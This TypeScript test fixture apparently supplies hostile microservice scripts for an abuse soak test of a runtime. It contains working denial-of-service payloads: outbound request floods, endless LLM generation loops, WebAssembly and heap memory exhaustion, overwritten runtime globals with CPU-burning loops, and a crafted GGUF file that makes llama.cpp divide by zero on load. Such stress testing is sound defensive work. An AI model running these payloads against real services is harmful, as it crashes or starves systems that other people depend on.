/**
 * The microservices of the abuse run (tests/abuse_soak_test.ts): every attack of issue 34 as a
 * hostile client would write it, armed by a request to `/go` (again after each restart), and a
 * well-behaved service that keeps its state in memory, so that a restart shows.
 *
 * @module
 */
import { withU32 } from "./hostile_inference_models.ts";

/** A well-behaved service: counts its requests in memory; `boot` changes when it restarts. */
export const GOOD_SERVICE = `var boot = String(Math.random()).slice(2, 10);
var served = 0;
mimikModule.exports = function (context, req, res) {
  served++;
  res.setHeader('content-type', 'application/json');
  res.end(JSON.stringify({ boot: boot, served: served }));
};`;

/** The attacks, by container name: each a script run when `/go` is first asked for. */
export function hostileServices(sinkUrl: string, model: string, crafted: string) {
  const armOnce = (body: string) =>
    `var armed = false;
mimikModule.exports = function (context, req, res) {
  if (req.url.indexOf('/go') === 0 && !armed) { armed = true; (function () { ${body} })(); }
  res.end('ok');
};`;
  return {
    // Item 1: pending outbound requests to a server that never answers.
    flood: armOnce(`for (var i = 0; i < 20000; i++) {
      try { fetch('${sinkUrl}/hang/' + i).catch(function () {}); } catch (e) {}
    }`),
    // Item 2 and 6: detached generations without end, and a crafted model loaded again and again.
    "ml-hog": armOnce(`function again(model, tokens) {
      try {
        context.ml.chatCompletions({ model: model, max_tokens: tokens,
          messages: [{ role: 'user', content: 'tell me everything' }],
          success: function (e) { if (e.done !== false) setTimeout(function () { again(model, tokens); }, 0); },
          error: function () { setTimeout(function () { again(model, tokens); }, 50); } });
      } catch (e) { setTimeout(function () { again(model, tokens); }, 50); }
    }
    for (var i = 0; i < 16; i++) setTimeout(function () { again('${model}', 16777216); }, 0);
    setTimeout(function () { again('${crafted}', 8); }, 0);`),
    // Item 3: WebAssembly and Intl memory beyond MCM.MEMORY_MB.
    memory: armOnce(`var memory = new WebAssembly.Memory({ initial: 1, maximum: 16384 });
    var held = [];
    function grow() {
      try { memory.grow(256); new Uint8Array(memory.buffer).fill(1, memory.buffer.byteLength - 16777216); }
      catch (e) { return; }
      if (memory.buffer.byteLength < 480 * 1048576) setTimeout(grow, 20);
    }
    grow();
    function intl(n) {
      for (var i = 0; i < 2000 && n > 0; i++, n--) {
        try { held.push(new Intl.NumberFormat('en', { minimumFractionDigits: n % 20 })); } catch (e) { return; }
      }
      if (n > 0) setTimeout(function () { intl(n); }, 5);
    }
    intl(60000);`),
    // Item 4 and 5: the runtime's globals replaced, then a loop of 40 ms in every 100 ms and,
    // every 10 s, 2.8 s without a break.
    globals: armOnce(`Atomics.sub = function () { return 0; };
    Atomics.add = function () { return 0; };
    Atomics.load = function () { return 1; };
    Math.max = function () { return 0; };
    Math.min = function () { return 0; };
    Date.now = function () { return 0; };
    var now = performance.now.bind(performance);
    performance.now = function () { return 0; };
    setInterval(function () { var t = now(); while (now() - t < 40) {} }, 100);
    setInterval(function () { var t = now(); while (now() - t < 2800) {} }, 10000);`),
    // Item 5: a loop of 90 ms in every 100 ms.
    cpu: armOnce(`setInterval(function () {
      var t = performance.now(); while (performance.now() - t < 90) {}
    }, 100);`),
    // Item 3's process end: the heap filled in one synchronous loop, faster than any report.
    "heap-bomb": armOnce(
      `var kept = []; while (true) kept.push(new Array(1 << 20).fill(kept.length));`,
    ),
  };
}

/**
 * `bytes` (a GGUF) with `llama.attention.head_count` set to 0: llama.cpp divides by it when
 * loading (issue 34, item 6).
 */
export function zeroHeads(bytes: Uint8Array): Uint8Array {
  return withU32(bytes, "llama.attention.head_count", 0);
}
